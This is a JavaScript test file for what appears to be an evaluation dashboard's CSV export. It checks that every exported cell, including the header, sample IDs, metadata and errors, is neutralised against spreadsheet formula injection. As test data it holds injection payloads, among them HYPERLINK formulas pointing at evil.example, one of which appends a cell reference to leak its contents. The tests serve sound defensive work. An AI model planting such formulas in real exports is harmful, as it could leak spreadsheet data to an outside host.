// CSV exports guard every cell against formula injection, whatever the column: the one cell-writing function
// does it, so a column added later is covered too. Checked on toCsv with a formula in every field, and on the
// records and run exports the page downloads from the real server.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { cell, toCsv } from '../../static-site/js/export.js';
import { FORMULA_START, parseCsv } from './support/csv.mjs';
import { startServer } from './support/server.mjs';
import { launchBrowser, openPage } from './support/browser.mjs';
import { record, writeRecords } from './support/records.mjs';
import { submitRun, waitForRun } from './support/runs.mjs';

const PAYLOADS = ['=HYPERLINK("http://evil.example","x")', '+SUM(1,2)', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];

describe('the CSV cell writer', () => {
  test('cell guards each formula start and leaves numbers and plain text alone', () => {
    for (const payload of PAYLOADS) {
      const [[written]] = parseCsv(`${cell(payload)}\r\n`);
      assert.equal(written, `'${payload}`, JSON.stringify(payload));
    }
    assert.equal(cell(-0.5), '-0.5');
    assert.equal(cell('plain, "quoted"'), '"plain, ""quoted"""');
    assert.equal(cell(null), '');
  });

  test('toCsv guards every column of a row whose every field is a formula', () => {
    let i = 0;
    const f = () => PAYLOADS[i++ % PAYLOADS.length];
    const row = {
      job_id: f(), run_id: f(), sample_id: f(), status: f(), created_at: f(), started_at: f(), finished_at: f(),
      weighted_score: f(), scores: { faithfulness: f(), [f()]: f() }, skipped_metrics: [f()], latency_ms: f(),
      attempts: f(), usage: { total_tokens: f() }, error: f(),
      request_summary: { question: f(), answer: f(), judge_model: f(), embedding_model: f(), metadata: { [f()]: f(), app: f() }, metrics: [] },
    };
    const rows = parseCsv(toCsv([row], ['faithfulness']));
    assert.equal(rows.length, 2);
    const [header, values] = rows;
    assert.equal(values.length, header.length);
    for (const [n, value] of [...header, ...values].entries()) {
      assert.ok(!FORMULA_START.test(value), `cell ${n} (${JSON.stringify(value)}) would run as a formula`);
    }
    // The skipped metric's own score column is the one left empty; every other column carried a formula.
    const empty = header.filter((name, n) => values[n] === '');
    assert.deepEqual(empty, [`'${row.skipped_metrics[0]}`]);
    for (const [n, name] of header.entries()) if (values[n] !== '') assert.match(values[n], /^'/, `column ${name} carried a formula and is guarded`);
  });
});

describe('exports from the page', () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
  const hostile = record({
    created: new Date(Date.now() - 60000), question: '+SUM(1,2) question', answer: '@SUM(A1) answer', metrics: ['token_f1'],
    scores: { token_f1: 0.5 }, metadata: { '=key': formula, app: '-1+1' },
  });
  hostile.request_summary.judge_model = '=judge()';
  hostile.request_summary.embedding_model = '+embed()';
  hostile.error = '\t=err()';
  hostile.skipped_metrics = ['@skip'];
  let server;
  let browser;

  before(async () => {
    server = await startServer({ seed: (dir) => writeRecords(dir, [hostile]) });
    browser = await launchBrowser();
  });

  after(async () => {
    await browser?.close();
    await server?.stop();
  });

  test('the records CSV guards question, answer, models, metadata, skipped metrics and error', async () => {
    const page = await openPage(browser, { locale: 'en-US' });
    await page.goto(server.url);
    await page.locator('#records-body tr.row:not(.row-skeleton)').first().waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
    const [header, values] = parseCsv(await readFile(await download.path(), 'utf8'));
    const column = (name) => values[header.indexOf(name)];
    for (const value of [...header, ...values]) assert.ok(!FORMULA_START.test(value), JSON.stringify(value));
    assert.equal(column('question'), "'+SUM(1,2) question");
    assert.equal(column('answer'), "'@SUM(A1) answer");
    assert.equal(column('judge_model'), "'=judge()");
    assert.equal(column('embedding_model'), "'+embed()");
    assert.equal(column('metadata'), `'=key=${formula}; app=-1+1`);
    assert.equal(column('skipped_metrics'), "'@skip");
    assert.equal(column('error'), "'\t=err()");
    await page.context().close();
  });

  test('the run CSV guards sample ids and every other cell', async () => {
    const samples = ['=HYPERLINK("http://evil.example","a")', '+SUM(1,2)', '@SUM(A1)'].map((id, i) => ({
      id, question: `-${i} what is RAG?`, answer: '=1+1', ground_truth: 'Retrieval-augmented generation.', metadata: { app: '@app' },
    }));
    const accepted = await submitRun(server, samples, { name: '=run name', metrics: ['token_f1', 'exact_match'] });
    await waitForRun(server, accepted.run_id);
    const page = await openPage(browser, { locale: 'zh-CN' });
    await page.goto(`${server.url}/#run=${accepted.run_id}`);
    await page.locator('#run-export-csv').waitFor();
    const [download] = await Promise.all([page.waitForEvent('download'), page.click('#run-export-csv')]);
    const [header, ...rows] = parseCsv(await readFile(await download.path(), 'utf8'));
    assert.equal(rows.length, samples.length);
    for (const value of [...header, ...rows.flat()]) assert.ok(!FORMULA_START.test(value), JSON.stringify(value));
    const ids = rows.map((r) => r[header.indexOf('sample_id')]).sort();
    assert.deepEqual(ids, samples.map((s) => `'${s.id}`).sort());
    assert.ok(rows.every((r) => r[header.indexOf('answer')] === "'=1+1" && r[header.indexOf('metadata')] === 'app=@app'));
    await page.context().close();
  });
});
